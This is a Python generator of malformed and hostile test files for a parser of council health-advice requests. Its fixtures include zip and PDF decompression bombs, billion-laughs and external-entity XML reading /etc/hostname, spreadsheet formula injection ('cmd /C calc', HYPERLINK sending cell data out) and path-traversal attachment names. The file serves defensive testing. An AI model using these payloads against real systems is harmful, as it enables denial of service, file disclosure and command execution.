"""Files that were made to do harm, or that came to it on the way. All small on a disk."""

import io
import struct
import sys
import zipfile
import zlib
from datetime import date

import pikepdf

from . import msg, pdfs, sheets, word
from .children import CHILDREN, form
from .mail import ASK, lines
from .shelf import HERE, hostile

BROKEN = ("damaged", "wrong_kind", "nothing_found", "not_safely")
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'


def zipped(parts, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in parts:
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def word_of(body, head="", more=()):
    document = f'<?xml version="1.0"?>{head}<w:document {W}><w:body>{body}</w:body></w:document>'
    return zipped([("[Content_Types].xml", TYPES), ("word/document.xml", document), *more])


def excel_of(rows, head="", more=(), dimension="", strings="<si><t>Surname</t></si>"):
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return zipped([
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        ("xl/workbook.xml", f'<?xml version="1.0"?>{head}<workbook {S} xmlns:r="{rel}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'),
        ("xl/sharedStrings.xml", f"<sst {S}>{strings}</sst>"),
        ("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {S}>{dimension}<sheetData>{rows}</sheetData></worksheet>'),
        *more,
    ])


def pdf_of(objects, trailer="/Root 1 0 R"):
    """Objects as they are, numbered from 1, with a table that is right."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + f"trailer\n<< /Size {len(objects) + 1} {trailer} >>\nstartxref\n{table}\n%%EOF\n".encode()


def stream(data, more=""):
    return f"<< /Length {len(data)} /Filter /FlateDecode {more} >>\nstream\n".encode() + data + b"\nendstream"


def locked(data):
    """The same file with a password, by msoffcrypto (which draws a random key)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt("a quiet lane", out)
    return out.getvalue()


def kept(name, make):
    """What is random is made once."""
    file = HERE / "hostile" / name
    return file.read_bytes() if file.exists() and "--again" not in sys.argv else make()


def make():
    day = date(2026, 3, 2)
    rows, _ = form(CHILDREN["ng"], "Bristol", 600, day)
    rows = [(a, b) for a, b in rows]
    docx, xlsx, pdf = word.two_columns(rows), sheets.label_and_value(rows), pdfs.acroform(rows)
    mail = msg.message("Request for health advice", "sen@bristol.gov.uk", "SEN", ASK + "\n" + lines(rows))
    cut(docx, xlsx, pdf, mail)
    shut(docx, xlsx, pdf)
    disguised(docx, pdf, rows)
    bombs()
    markup()
    spreadsheets(rows)
    portable(pdf)
    compound(mail)
    mails(rows)


def cut(docx, xlsx, pdf, mail):
    for name, data in (("docx", docx), ("xlsx", xlsx), ("msg", mail)):
        hostile(f"cut-in-half.{name}", data[: len(data) // 2], *BROKEN)
    hostile("cut-at-the-end.docx", docx[:-30], *BROKEN)
    hostile("cut-at-the-start.docx", docx[:6], *BROKEN)
    # The fields may stand before the place where it breaks off; what then is said must be true.
    hostile("cut-in-half.pdf", pdf[: len(pdf) // 2], *BROKEN, "read", "scan")
    hostile("cut-at-the-start.pdf", pdf[:9], *BROKEN)
    hostile("cut-at-the-start.msg", mail[:600], *BROKEN)
    hostile("empty.eml", b"", "empty")
    hostile("only-spaces.txt", b" \r\n\t \n" * 40, "empty")
    hostile("only-zeros.docx", bytes(4096), *BROKEN)
    hostile("zeros-in-text.txt", b"Surname: Ng\0\0\0\nNHS number: 999 000 3904\0\n" * 3, *BROKEN, "read")


def shut(docx, xlsx, pdf):
    hostile("password.docx", kept("password.docx", lambda: locked(small(docx))), "password_protected")
    hostile("password.xlsx", kept("password.xlsx", lambda: locked(xlsx)), "password_protected")

    def secret():
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(pdf)) as open_pdf:
            open_pdf.save(out, encryption=pikepdf.Encryption(owner="a lane", user="a quiet lane", R=6))
        return out.getvalue()

    hostile("password.pdf", kept("password.pdf", secret), "password_protected")
    # The flag of encryption, in the entry and in the list of entries, is enough to ask for a password.
    data = bytearray(zipped([("word/document.xml", "<a/>")], zipfile.ZIP_STORED))
    data[6] |= 1
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    hostile("password-in-zip.docx", bytes(data), "password_protected", "damaged")


def small(docx):
    """Without the picture and the styles that python-docx puts into every file."""
    with zipfile.ZipFile(io.BytesIO(docx)) as z:
        return zipped([(n, z.read(n)) for n in z.namelist() if "thumbnail" not in n and "stylesWithEffects" not in n])


def disguised(docx, pdf, rows):
    hostile("really-a-pdf.docx", pdf, "read", "wrong_kind")
    hostile("really-a-word-file.pdf", small(docx), "read", "wrong_kind")
    hostile("really-a-program.docx", b"MZ" + bytes(200) + b"This program cannot be run in DOS mode" + bytes(300), "wrong_kind", "damaged")
    hostile("really-a-picture.pdf", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0" + bytes(100), "picture", "wrong_kind")
    hostile("two-names-one-zip.docx", twice(), "damaged", "wrong_kind", "read")
    hostile("a-zip-of-files.zip", zipped([("one.docx", small(docx)), ("../../two.docx", b"x")]), "archive", "wrong_kind")
    hostile("macros.docm", zipped([("[Content_Types].xml", TYPES), ("word/document.xml", f"<w:document {W}><w:body/></w:document>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(100))]), "macros")
    hostile("macros-in-a-docx.docx", word_of("<w:p/>", more=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(100))]), "macros")
    hostile("macros.xlsm", excel_of("", more=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(100))]), "macros")
    hostile("old-word.doc", msg.compound({"WordDocument": bytes(5000), "1Table": bytes(100)}), "old_office")
    hostile("old-excel.xls", msg.compound({"Workbook": b"\x09\x08\x10\0\0\x06\x05\0" + bytes(5000)}), "old_office")
    hostile("a-page.eml", b"<html><body>Surname: Ng</body></html>\n", *BROKEN)
    hostile("rich-text.doc", b"{\\rtf1\\ansi Surname: Ng\\par}", "wrong_kind", "old_office")


def twice():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name in ("Ng", "Warsame"):
            info = zipfile.ZipInfo("word/document.xml", (1980, 1, 1, 0, 0, 0))
            z.writestr(info, f"<w:document {W}><w:body><w:p><w:r><w:t>Surname: {name}</w:t></w:r></w:p></w:body></w:document>")
    return out.getvalue()


def bombs():
    many = b"<w:p/>" * 1_000_000
    hostile("bomb.docx", word_of(many.decode() * 9), "too_large")
    hostile("bomb-in-another-part.docx", word_of("<w:p><w:r><w:t>Surname: Ng</w:t></w:r></w:p>", more=[("word/media/a.bin", bytes(60_000_000))]), "too_large", "read")
    hostile("a-million-rows.xlsx", excel_of("<row><c t='s'><v>0</v></c></row>" * 1_000_000), "too_large", "too_much_memory")
    hostile("a-long-string.xlsx", excel_of("<row><c t='s'><v>0</v></c></row>", strings="<si><t>" + "A" * 50_000_000 + "</t></si>"), "too_large", "too_much_memory")
    hostile("two-thousand-parts.docx", zipped([("word/document.xml", "<a/>"), *((f"p{n}", b"") for n in range(2_010))], zipfile.ZIP_STORED), "too_large")
    size = bytearray(word_of("<w:p/>" * 200_000))
    at = size.rfind(b"word/document.xml") - 46
    struct.pack_into("<I", size, at + 24, 1_000)
    hostile("a-lie-about-its-size.docx", bytes(size), "damaged", "too_large", "nothing_found")


def markup():
    deep = 100_000
    hostile("deep.docx", word_of("<w:p>" * deep + "</w:p>" * deep), "damaged", "too_large")
    level = "<w:p>" * 4_000 + "</w:p>" * 4_000
    hostile("deep-and-not-packed.docx", zipped([("word/document.xml", f"<w:document {W}><w:body>{level}</w:body></w:document>")], zipfile.ZIP_STORED), "damaged", "too_large")
    hostile("deep-tables.docx", word_of("<w:tbl><w:tr><w:tc>" * 3_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3_000), "damaged", "too_large")
    laughs = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
    hostile("billion-laughs.docx", word_of("<w:p><w:r><w:t>Surname: &j;</w:t></w:r></w:p>", laughs), "damaged")
    hostile("outside-entity.docx", word_of("<w:p><w:r><w:t>Surname: &x;</w:t></w:r></w:p>", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'), "damaged")
    hostile("outside-entity.xlsx", excel_of("<row><c t='s'><v>0</v></c></row>", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'), "damaged", "nothing_found")
    hostile("not-closed.docx", zipped([("word/document.xml", f"<w:document {W}><w:body><w:p><w:r><w:t>Surname: Ng")]), "damaged")
    hostile("not-utf8.docx", zipped([("word/document.xml", b"<w:document><w:t>Surname: \xff\xfe\xc3\x28</w:t></w:document>")]), "damaged", "nothing_found")


def spreadsheets(rows):
    far = '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="1048576"><c r="XFD1048576" t="s"><v>0</v></c></row>'
    hostile("from-corner-to-corner.xlsx", excel_of(far, dimension='<dimension ref="A1:XFD1048576"/>'), "nothing_found", "too_large", "damaged", "read")
    hostile("beyond-the-last-cell.xlsx", excel_of('<row r="4294967295"><c r="ZZZZZZ4294967295" t="s"><v>0</v></c></row>'), *BROKEN, "too_large")
    hostile("no-such-string.xlsx", excel_of('<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" t="s"><v>-1</v></c></row>'), *BROKEN)
    hostile("dates-of-no-calendar.xlsx", excel_of('<row r="1"><c r="A1" t="inlineStr"><is><t>Surname</t></is></c><c r="B1"><v>1e308</v></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>DOB</t></is></c><c r="B2" t="d"><v>9999-99-99T99:99</v></c></row>'), *BROKEN, "read", "too_large")
    formulas = [(a, f'=HYPERLINK("https://example.invalid/?"&A1,"{b}")') for a, b in rows[:4]] + [("Surname", "=cmd|' /C calc'!A0"), ("NHS number", "+999"), ("School", "@SUM(1)")]
    hostile("formulas.xlsx", sheets.label_and_value(formulas), "read", "nothing_found")
    hostile("formulas.csv", sheets.csv_of([formulas]).encode(), "read")
    hostile("open-quotation.csv", b'Surname,DOB,NHS number\r\n"Ng,30/11/2014,999 000 3904\r\n' * 3, "damaged")
    hostile("mixed-encodings.csv", "Surname,First name,School\r\nRhŷs,Siân,Downs View\r\n".encode() + "O’Dowd,José,Eastfield\r\n".encode("cp1252") + b"\xff\xfeN\0g\0\r\n", "read", "damaged", "wrong_kind")
    hostile("half-of-utf16.csv", "Surname,First name,DOB\r\nNg,Wei,30/11/2014\r\n".encode("utf-16")[:-3], "read", "damaged", "nothing_found")


def portable(pdf):
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    hostile("pages-in-a-ring.pdf", pdf_of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"]), *BROKEN, "scan")
    hostile("fields-in-a-ring.pdf", pdf_of(["<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, "<< /T (Surname) /FT /Tx /Kids [5 0 R] >>", "<< /T (a) /Parent 4 0 R /Kids [4 0 R] >>"]), *BROKEN, "scan")
    deep = [f"<< /T (f) /Kids [{n + 5} 0 R] >>" for n in range(300)] + ["<< /T (Surname) /FT /Tx /V (Ng) >>"]
    hostile("fields-too-deep.pdf", pdf_of(["<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, *deep]), *BROKEN, "scan", "too_large")
    zeros = zlib.compress(zlib.compress(bytes(400_000_000), 9), 9)
    content = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    twice = f"<< /Length {len(zeros)} /Filter [/FlateDecode /FlateDecode] >>\nstream\n".encode() + zeros + b"\nendstream"
    hostile("bomb.pdf", pdf_of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", content, twice]), *BROKEN, "scan", "too_large", "too_much_memory", "took_too_long")
    objects = zlib.compress(b"9 0 " + b" " * 90_000_000, 9)
    hostile("bomb-of-objects.pdf", pdf_of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, stream(objects, "/Type /ObjStm /N 1 /First 4")]), *BROKEN, "scan", "too_large", "too_much_memory")
    hostile("brackets.pdf", pdf_of(["<< /Type /Catalog /Pages 2 0 R /X " + "[" * 20_000 + "]" * 20_000 + " >>"]), *BROKEN, "scan", "too_much_memory")
    hostile("no-table.pdf", pdf.replace(b"startxref", b"startxxxx"), *BROKEN, "read", "scan")


def compound(mail):
    # Every sector is followed by itself.
    ring = bytearray(mail)
    table = struct.unpack_from("<I", mail, 76)[0]
    for at in range(20):
        struct.pack_into("<I", ring, 512 + table * 512 + at * 4, at)
    hostile("sectors-in-a-ring.msg", bytes(ring), *BROKEN)
    # The first entry of the directory is its own child.
    own = bytearray(mail)
    directory = 512 + struct.unpack_from("<I", mail, 48)[0] * 512
    struct.pack_into("<I", own, directory + 76, 0)
    hostile("directory-in-a-ring.msg", bytes(own), *BROKEN)
    long = bytearray(mail)
    for entry in range(1, 8):
        struct.pack_into("<Q", long, directory + entry * 128 + 120, 0xFFFFFFFF)
    hostile("streams-of-four-gigabytes.msg", bytes(long), *BROKEN, "read", "too_large", "too_much_memory")
    inside = {"__properties_version1.0": bytes(24), "__substg1.0_0037001F": "x".encode("utf-16-le")}
    for _ in range(60):
        inside = {"__properties_version1.0": bytes(24), "__attach_version1.0_#00000000": msg.properties({0x3701: inside, 0x3707: "a", 0x3705: (3, 5)}, 8)}
    inside["__properties_version1.0"] = bytes(32)
    hostile("message-in-message.msg", msg.compound(inside), *BROKEN, "read")


def mails(rows):
    text = lines(rows).encode()
    start = b"From: sen@bristol.gov.uk\r\nTo: ehc.advice@nhs.example\r\nSubject: Request for health advice\r\n"
    outside = b"\r\n".join(b'--b\r\nContent-Type: text/plain; name="%s"\r\nContent-Disposition: attachment; filename="%s"\r\n\r\nx\r\n' % (n, n) for n in (b"../../x", b"C:\\Windows\\x.dll", b"CON", b"\xe2\x80\xaecod.exe"))
    hostile("attachments-named-outside.eml", start + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\n' + text + b"\r\n" + outside + b"--b--\r\n", "read")
    hostile("a-zero-in-a-name.eml", start + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\n' + text + b'\r\n--b\r\nContent-Disposition: attachment; filename="a\0b.txt"\r\n\r\nx\r\n--b--\r\n', "read", *BROKEN)
    hostile("no-last-boundary.eml", start + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\n' + text, "damaged")
    hostile("no-such-encoding.eml", start + b"Content-Type: text/plain; charset=x-none\r\nContent-Transfer-Encoding: x-none\r\n\r\n" + text, "read", "nothing_found")
    hostile("broken-base64.eml", start + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!U3VybmFtZTog\r\n====TmcK\r\n\xff\xff", "read", *BROKEN)
    hostile("a-boundary-in-itself.eml", start + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + b'--b\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n' * 900 + b"--b--\r\n", "read", *BROKEN)
    hostile("headers-only.eml", start, "nothing_found", "read", "damaged")
    hostile("marks-of-direction.eml", start + b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + "Surname: \u202egN\u202c\nNHS number: 999\u200b000 3904\n".encode() + text, "read")
